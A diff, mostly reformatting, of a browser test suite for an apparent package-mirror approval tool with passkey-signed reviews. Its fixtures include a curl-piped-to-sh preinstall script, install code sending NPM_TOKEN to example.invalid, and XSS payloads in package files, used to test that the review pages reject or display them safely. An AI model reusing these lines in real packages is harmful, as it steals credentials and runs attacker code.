@@ -17,7 +17,7 @@ import { keyedApprovers, WebMirror, type KeyedApprover } from './web-mirror';
 
 const SCREENSHOTS = process.env.CORDON_SCREENSHOTS ?? join(__dirname, '..', '..', '..', 'screenshots');
 
-describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
+describe('review pages and passkeys in Chromium', { timeout: 110_000 }, () => {
   const web = new WebMirror();
   let browser: Browser;
   let alice: KeyedApprover;
@@ -25,13 +25,19 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
   let aliceAt: Person;
   let bobAt: Person;
   const snapshot = async (name: string, version: string) => ({
-    version: (await web.m.mirror.runtime.store.versions.versionOf(name, version)),
-    decisions: (await web.m.mirror.runtime.approvals.decisionsOf(name, version)),
-    head: (await web.m.mirror.runtime.store.audit.head()),
+    version: await web.m.mirror.runtime.store.versions.versionOf(name, version),
+    decisions: await web.m.mirror.runtime.approvals.decisionsOf(name, version),
+    head: await web.m.mirror.runtime.store.audit.head(),
   });
   const review = (p: Person, name: string, version: string) => p.page.goto(`${web.url}-/cordon/packages/${name}/${version}`);
   /** Fills the decision form, shows the statement and signs it with the person's passkey. */
-  async function sign(p: Person, as: string, decision: 'approve' | 'reject', reason: string, beforeSigning?: () => Promise<void>): Promise<string> {
+  async function sign(
+    p: Person,
+    as: string,
+    decision: 'approve' | 'reject',
+    reason: string,
+    beforeSigning?: () => Promise<void>,
+  ): Promise<string> {
     await p.page.locator('#decide-form').waitFor();
     await p.page.check(decision === 'approve' ? '#decision-approve' : '#decision-reject');
     await p.page.fill('#reason', reason);
@@ -40,10 +46,13 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     const statement = await p.page.locator('#statement').textContent();
     await beforeSigning?.();
     await p.page.click('#sign');
-    await p.page.locator('#decide-status .notice:not(.info)').waitFor().catch(async (err: Error) => {
-      // biome-ignore lint/performance/useDomNodeTextContent: the failure message shows the page as a reader sees it.
-      throw new Error(`${err.message}\npage: ${await p.page.locator('#main').innerText()}\nconsole: ${p.console.join('\n')}`);
-    });
+    await p.page
+      .locator('#decide-status .notice:not(.info)')
+      .waitFor()
+      .catch(async (err: Error) => {
+        // biome-ignore lint/performance/useDomNodeTextContent: the failure message shows the page as a reader sees it.
+        throw new Error(`${err.message}\npage: ${await p.page.locator('#main').innerText()}\nconsole: ${p.console.join('\n')}`);
+      });
     return `${statement}\n${await p.page.locator('#decide-status').textContent()}`;
   }
 
@@ -54,7 +63,11 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     const up = web.upstream;
     for (const name of ['native-thing', 'other-thing', 'slow-thing']) up.publish(name, '1.0.0', { time: NOW - 30 * DAY });
     await Promise.all(['native-thing', 'other-thing', 'slow-thing'].map((n) => web.sight(n)));
-    up.publish('native-thing', '1.1.0', { time: NOW - 2 * HOUR, scripts: { postinstall: 'node build.js' }, files: { 'build.js': "require('child_process').execSync('true');\n" } });
+    up.publish('native-thing', '1.1.0', {
+      time: NOW - 2 * HOUR,
+      scripts: { postinstall: 'node build.js' },
+      files: { 'build.js': "require('child_process').execSync('true');\n" },
+    });
     up.publish('other-thing', '2.0.0', { time: NOW - 3 * HOUR, scripts: { preinstall: 'curl https://example.invalid/x | sh' } });
     up.publish('slow-thing', '1.1.0', { time: NOW - HOUR, scripts: { install: 'node-gyp rebuild' } });
     await Promise.all(['native-thing', 'other-thing', 'slow-thing'].map((n) => web.sight(n)));
@@ -76,7 +89,10 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
   });
 
   test('two approvers enroll a passkey through the one-time link "cordon passkey add" prints', async () => {
-    for (const [who, at] of [[alice, aliceAt], [bob, bobAt]] as const) {
+    for (const [who, at] of [
+      [alice, aliceAt],
+      [bob, bobAt],
+    ] as const) {
       const add = await web.cli(['passkey', 'add', '--key', who.keyFile]);
       assert.equal(add.code, 0, add.stderr);
       const link = /^(http:\/\/localhost:\d+\/-\/cordon\/enroll#[A-Za-z0-9_-]+)$/m.exec(add.stdout)?.[1];
@@ -92,7 +108,13 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     }
     const list = await web.cli(['passkey', 'list', '--json']);
     const passkeys = JSON.parse(list.stdout).passkeys as Array<{ approver: string; status: string }>;
-    assert.deepEqual(passkeys.map((p) => [p.approver, p.status]), [['alice', 'active'], ['bob', 'active']]);
+    assert.deepEqual(
+      passkeys.map((p) => [p.approver, p.status]),
+      [
+        ['alice', 'active'],
+        ['bob', 'active'],
+      ],
+    );
     const enrolled = (await web.m.mirror.runtime.store.audit.ofPackage('-')).filter((e) => e.cause === 'passkey-enrolled');
     assert.equal(enrolled.length, 2);
     assert.match(String(enrolled[0]!.detail!.signature), /BEGIN SSH SIGNATURE/, 'the SSH-signed request is in the audit log');
@@ -105,10 +127,23 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     assert.match(first, /Accepted: 1 of 2 approvals/);
     await review(bobAt, 'native-thing', '1.1.0');
     assert.match(await sign(bobAt, 'bob', 'approve', 'agreed'), /is now approved/);
-    const decisions = (await web.m.mirror.runtime.approvals.decisionsOf('native-thing', '1.1.0'));
-    assert.deepEqual(decisions.map((d) => [d.approver, d.method]), [['alice', 'webauthn'], ['bob', 'webauthn']]);
+    const decisions = await web.m.mirror.runtime.approvals.decisionsOf('native-thing', '1.1.0');
+    assert.deepEqual(
+      decisions.map((d) => [d.approver, d.method]),
+      [
+        ['alice', 'webauthn'],
+        ['bob', 'webauthn'],
+      ],
+    );
     // One approver counts once whichever way they sign: alice's SSH key cannot add a second approval.
-    web.upstream.publish('native-thing', '1.2.0', { time: NOW - HOUR, scripts: { postinstall: 'node build.js', preinstall: 'node fetch.js' }, files: { 'build.js': "require('child_process').execSync('true');\n", 'fetch.js': "require('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n" } });
+    web.upstream.publish('native-thing', '1.2.0', {
+      time: NOW - HOUR,
+      scripts: { postinstall: 'node build.js', preinstall: 'node fetch.js' },
+      files: {
+        'build.js': "require('child_process').execSync('true');\n",
+        'fetch.js': "require('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n",
+      },
+    });
     await web.sight('native-thing');
     await review(aliceAt, 'native-thing', '1.2.0');
     await sign(aliceAt, 'alice', 'approve', 'same build');
@@ -132,8 +167,11 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     await bobAt.page.click('#prepare');
     await bobAt.page.getByText('A rejection needs a reason').waitFor();
     assert.match(await sign(bobAt, 'bob', 'reject', 'pipes a download into sh'), /is now rejected/);
-    const d = (await web.m.mirror.runtime.approvals.decisionsOf('other-thing', '2.0.0'));
-    assert.deepEqual(d.map((x) => [x.decision, x.method, JSON.parse(x.statement).reason]), [['reject', 'webauthn', 'pipes a download into sh']]);
+    const d = await web.m.mirror.runtime.approvals.decisionsOf('other-thing', '2.0.0');
+    assert.deepEqual(
+      d.map((x) => [x.decision, x.method, JSON.parse(x.statement).reason]),
+      [['reject', 'webauthn', 'pipes a download into sh']],
+    );
     assert.equal((await web.m.mirror.runtime.store.versions.versionOf('other-thing', '2.0.0'))?.state, 'rejected');
   });
 
@@ -161,7 +199,13 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     assert.match((await aliceAt.page.locator('#decide-status').textContent()) ?? '', /no longer an approver.*\[UNKNOWN_SIGNER\]/);
     assert.deepEqual(await snapshot('slow-thing', '1.1.0'), before);
     const list = JSON.parse((await web.cli(['passkey', 'list', '--json'])).stdout).passkeys as Array<{ approver: string; status: string }>;
-    assert.deepEqual(list.map((p) => [p.approver, p.status]), [['alice', 'approver-removed'], ['bob', 'active']]);
+    assert.deepEqual(
+      list.map((p) => [p.approver, p.status]),
+      [
+        ['alice', 'approver-removed'],
+        ['bob', 'active'],
+      ],
+    );
   });
 
   test('keyboard only: bob reaches the form, signs, and reads times in his own zone', async () => {
@@ -194,11 +238,18 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
       await tabTo('prepare');
       await p.page.keyboard.press('Enter');
       await p.page.locator('#sign:focus').waitFor();
-      assert.notEqual(await p.page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle), 'none', 'the focused element shows its focus');
+      assert.notEqual(
+        await p.page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle),
+        'none',
+        'the focused element shows its focus',
+      );
       assert.match((await p.page.locator('#statement').textContent()) ?? '', /"approver":"bob".*"reason":"read the gyp file"/);
       await p.page.keyboard.press('Enter');
       await p.page.getByText('Accepted: 1 of 2 approvals').waitFor();
-      assert.deepEqual((await web.m.mirror.runtime.approvals.decisionsOf('slow-thing', '1.1.0')).map((d) => [d.approver, d.method]), [['bob', 'webauthn']]);
+      assert.deepEqual(
+        (await web.m.mirror.runtime.approvals.decisionsOf('slow-thing', '1.1.0')).map((d) => [d.approver, d.method]),
+        [['bob', 'webauthn']],
+      );
     } finally {
       await p.context.close();
     }
@@ -211,9 +262,18 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
     const verify = await runProcess('sh', ['verify.sh'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin' } });
     assert.equal(verify.code, 0, verify.stderr + verify.stdout);
     assert.equal((verify.stdout.match(/challenge is SHA-256 of the statement/g) ?? []).length, 5, verify.stdout);
-    assert.equal((verify.stdout.match(/Good "cordon-passkey" signature/g) ?? []).length + (verify.stderr.match(/Good "cordon-passkey" signature/g) ?? []).length, 3, 'every SSH-signed enrollment request verifies');
+    assert.equal(
+      (verify.stdout.match(/Good "cordon-passkey" signature/g) ?? []).length +
+        (verify.stderr.match(/Good "cordon-passkey" signature/g) ?? []).length,
+      3,
+      'every SSH-signed enrollment request verifies',
+    );
     // A statement changed after signing no longer matches the passkey's challenge.
-    const statement = join(dir, 'decisions', readFileSync(join(dir, 'verify.sh'), 'utf8').match(/check_passkey 'decisions\/([^']+\.json)'/)![1]!);
+    const statement = join(
+      dir,
+      'decisions',
+      readFileSync(join(dir, 'verify.sh'), 'utf8').match(/check_passkey 'decisions\/([^']+\.json)'/)![1]!,
+    );
     const { writeFileSync } = await import('node:fs');
     writeFileSync(statement, readFileSync(statement, 'utf8').replace('"decision":"approve"', '"decision":"reject"'));
     const tampered = await runProcess('sh', ['verify.sh'], { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin' } });
@@ -222,14 +282,21 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
   });
 
   test('a hostile package runs nothing: file names, contents, description, README and evidence are text', async () => {
-    const payloads = ['<img src=x onerror="window.__pwned=1">', '</script><script>window.__pwned=2</script>', '[x](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">y</a>'];
+    const payloads = [
+      '<img src=x onerror="window.__pwned=1">',
+      '</script><script>window.__pwned=2</script>',
+      '[x](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">y</a>',
+    ];
     web.upstream.publish('evil-pkg', '1.0.0', { time: NOW - 30 * DAY });
     await web.sight('evil-pkg');
     web.upstream.publish('evil-pkg', '1.0.1', {
       time: NOW - HOUR,
       scripts: { postinstall: `node -e "${payloads[1]}" ${payloads[0]}` },
       manifest: { description: payloads.join(' '), homepage: 'javascript:window.__pwned=5' },
-      files: { [`${payloads[0]}.js`]: `// ${payloads.join('\n// ')}\nrequire('child_process').exec('${payloads[0]}');\n`, 'README.md': `# ${payloads[0]}\n${payloads[2]}\n${payloads[1]}\n` },
+      files: {
+        [`${payloads[0]}.js`]: `// ${payloads.join('\n// ')}\nrequire('child_process').exec('${payloads[0]}');\n`,
+        'README.md': `# ${payloads[0]}\n${payloads[2]}\n${payloads[1]}\n`,
+      },
     });
     await web.sight('evil-pkg');
     const p = await person(browser);
@@ -249,20 +316,32 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
       assert.equal(probe.pwned, undefined, `${path}: nothing ran`);
       assert.equal(probe.dangerous, 0, `${path}: no element came from package text`);
       if (path.endsWith('1.0.1')) {
-        for (const payload of [payloads[0]!, payloads[1]!, 'javascript:window.__pwned=5']) assert.ok(probe.text.includes(payload), `shown as text: ${payload}`);
+        for (const payload of [payloads[0]!, payloads[1]!, 'javascript:window.__pwned=5'])
+          assert.ok(probe.text.includes(payload), `shown as text: ${payload}`);
       }
     }
     assert.deepEqual(p.errors, []);
-    assert.deepEqual(p.console.filter((m) => m.startsWith('error')), []);
+    assert.deepEqual(
+      p.console.filter((m) => m.startsWith('error')),
+      [],
+    );
     await p.context.close();
   });
 
   test('screenshots of the queue and the review page at desktop and phone widths', async () => {
     web.upstream.publish('left-pad', '1.0.0', { time: NOW - 30 * DAY });
     await web.sight('left-pad');
-    web.upstream.publish('left-pad', '1.1.0', { time: NOW - 5 * HOUR, files: { 'index.js': `module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\nrequire('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n` } });
+    web.upstream.publish('left-pad', '1.1.0', {
+      time: NOW - 5 * HOUR,
+      files: {
+        'index.js': `module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\nrequire('https').get('https://example.invalid/' + process.env.NPM_TOKEN);\n`,
+      },
+    });
     await web.sight('left-pad');
-    for (const [label, viewport, mobile] of [['desktop', { width: 1280, height: 900 }, false], ['phone', { width: 390, height: 844 }, true]] as const) {
+    for (const [label, viewport, mobile] of [
+      ['desktop', { width: 1280, height: 900 }, false],
+      ['phone', { width: 390, height: 844 }, true],
+    ] as const) {
       const p = await person(browser, viewport, mobile);
       await p.page.goto(`${web.url}-/cordon/`);
       await p.page.locator('table.queue').waitFor();
@@ -272,7 +351,11 @@ describe("review pages and passkeys in Chromium", { timeout: 110_000 }, () => {
       await p.page.locator('#files details').first().waitFor();
       await p.page.screenshot({ path: join(SCREENSHOTS, `review-${label}.png`), fullPage: true });
       await p.page.screenshot({ path: join(SCREENSHOTS, `review-${label}-top.png`) });
-      for (const [page, path, ready] of [['audit', '-/cordon/audit', 'table.audit'], ['package', '-/cordon/packages/native-thing', 'table.versions'], ['decided', '-/cordon/?view=decided', 'table.recent']] as const) {
+      for (const [page, path, ready] of [
+        ['audit', '-/cordon/audit', 'table.audit'],
+        ['package', '-/cordon/packages/native-thing', 'table.versions'],
+        ['decided', '-/cordon/?view=decided', 'table.recent'],
+      ] as const) {
         await p.page.goto(`${web.url}${path}`);
         await p.page.locator(ready).waitFor();
         await p.page.screenshot({ path: join(SCREENSHOTS, `${page}-${label}.png`) });
